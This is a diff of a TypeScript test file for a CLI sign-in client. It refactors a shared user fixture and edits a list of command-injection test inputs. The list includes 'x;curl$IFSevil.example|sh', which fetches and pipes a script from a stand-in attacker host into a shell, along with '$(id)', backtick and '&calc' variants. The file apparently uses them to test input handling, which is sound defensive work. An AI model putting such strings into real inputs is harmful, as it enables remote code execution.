@@ -5,6 +5,14 @@ import { adviceForUser, hintFor } from '../src/client/exit-codes.ts';
 import { signInCommand } from '../src/client/sign-in-command.ts';
 import { HttpResponseError } from '../src/client/transport/responses.ts';
 
+const user = {
+  server: 'https://mcp.example',
+  account: 'default',
+  command: 'portcullis',
+  scopes: ['notes:read'],
+  stepUp: false,
+};
+
 const cancelled = new ClientError('cancelled', 'The sign-in was not completed.');
 const invalidScope = new ClientError('authorization_failed', 'No.', { oauthError: 'invalid_scope' });
 
@@ -32,28 +40,13 @@ it.each([
   ],
 ])('the advice for a missing scope where --step-up is %j', (stepUp, expected) => {
   const error = new HttpResponseError(403, '', ['notes:write']);
-  const user = {
-    server: 'https://mcp.example',
-    account: 'default',
-    command: 'portcullis',
-    scopes: ['notes:read'],
-    stepUp,
-  };
-  expect(adviceForUser(error, user)).toMatch(expected);
+  expect(adviceForUser(error, { ...user, stepUp })).toMatch(expected);
 });
-
-const user = {
-  server: 'https://mcp.example',
-  account: 'default',
-  command: 'portcullis',
-  scopes: ['notes:read'],
-  stepUp: false,
-};
 
 it.each([
   'x;curl$IFSevil.example|sh',
-  '$(touch/tmp/x)',
-  '`touch/tmp/x`',
+  '$(id)',
+  '`id`',
   'x&calc',
   "x'y",
   'x>file',
